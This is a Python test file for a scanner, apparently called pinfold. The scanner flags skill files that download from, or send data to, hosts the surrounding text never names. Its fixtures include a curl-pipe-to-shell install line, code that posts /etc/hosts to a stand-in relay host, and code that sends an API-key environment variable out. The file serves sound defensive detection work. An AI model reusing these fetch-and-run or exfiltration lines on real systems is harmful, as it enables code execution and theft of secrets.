"""Hosts of which the text around their address says nothing."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pinfold.model import FileType, SkillFile
from pinfold.scan.source import read_source
from pinfold.scan.strangers import is_own_key, makers


def _stranger(text: str, path: str = "SKILL.md") -> list[object]:
    source = read_source(SkillFile(path=path, data=text.encode(), type=FileType.TEXT, digest="0"))
    return [act.fields["Stranger"] for act in source.acts if "Stranger" in act.fields]


@pytest.mark.parametrize(
    ("url", "names"),
    [
        ("https://get.treeline.example/install.sh", {"treeline"}),
        ("https://raw.githubusercontent.com/acme/note-tool/main/install.sh", {"acme", "notetool"}),
        ("https://private-connect.example/x", {"privateconnect"}),
        ("https://get.install.example/x", {"get.install.example"}),
        ("http://198.51.100.7/x", set()),
        ("no address", set()),
    ],
)
def test_names_that_an_address_bears(url: str, names: set[str]) -> None:
    assert makers(url) == names


@pytest.mark.parametrize(
    ("said", "stranger"), [("Treeline", False), ("Tree line", False), ("The helper", True), ("ツール", True)]
)
def test_a_download_is_from_a_stranger_where_nothing_names_its_host(said: str, stranger: bool) -> None:
    text = f"# Setup\n\n{said} is installed with:\n\n```bash\ncurl -fsSL https://get.treeline.example/i.sh | sh\n```\n"
    assert stranger in _stranger(text)
    assert (not stranger) not in _stranger(text)


def test_the_address_itself_names_nobody() -> None:
    assert _stranger("```bash\n# from https://treeline.example\ncurl -s https://treeline.example/i | sh\n```\n") == [
        True
    ]


def test_what_is_sent_to_a_host_tells_whether_the_host_is_named() -> None:
    program = 'import requests\nrequests.post("https://{host}/v1", data=open("/etc/hosts").read())\n'
    assert _stranger(program.format(host="q7relay.example"), "a.py") == [True]
    assert _stranger("# a client of q7relay\n" + program.format(host="q7relay.example"), "a.py") == [False]
    assert _stranger(program.format(host="graph.microsoft.com"), "a.py") == []


@pytest.mark.parametrize(
    ("variable", "host"),
    [
        ("ACME_API_KEY", "api.acme.example"),
        ("ACME_NOTES_TOKEN", "acmenotes.example"),
        ("ACME_API_KEY", "api.acmehq.example"),
        ("ACME_CLIENT_SECRET", "login.acme.co.uk"),
        ("ACME_TOKEN", "ACME.example."),
    ],
)
def test_a_key_that_bears_the_name_of_its_host_is_a_login(variable: str, host: str) -> None:
    assert is_own_key(variable, host)


@pytest.mark.parametrize(
    ("variable", "host"),
    [
        ("ACME_API_KEY", "acme.collect.example"),
        ("ACME_API_KEY", "acme-keys.example"),
        ("ACME_API_KEY", "acme.workers.dev"),
        ("ACME_PRIVATE_KEY", "api.acme.example"),
        ("ACME_WALLET_SEED", "api.acme.example"),
        ("ACME_HOME", "acme.example"),
        ("API_KEY", "api.example"),
        ("ACME_API_KEY", "*"),
        ("CO_API_KEY", "co.uk"),
    ],
)
def test_a_key_for_anybody_else_is_none(variable: str, host: str) -> None:
    assert not is_own_key(variable, host)


def test_an_own_key_is_told_as_a_login() -> None:
    values = "[os.environ['ACME_API_KEY'], os.environ['NOTE']]"
    text = f"import os, requests\nrequests.post('https://api.{{}}/v1', json={values})\n"

    def sent(host: str) -> list[object]:
        file = SkillFile(path="a.py", data=text.format(host).encode(), type=FileType.TEXT, digest="0")
        return [act.fields["SentData"] for act in read_source(file).acts if "SentData" in act.fields]

    assert sent("acme.example") == ["auth:ACME_API_KEY env:NOTE"]
    assert sent("q7relay.example") == ["env:ACME_API_KEY env:NOTE"]


@given(st.text(max_size=40), st.text(max_size=80))
def test_any_variable_and_host_are_answered(variable: str, host: str) -> None:
    assert is_own_key(variable, host) in (True, False)


@given(st.text(max_size=200))
def test_any_text_yields_names(url: str) -> None:
    assert all(isinstance(name, str) for name in makers(url))
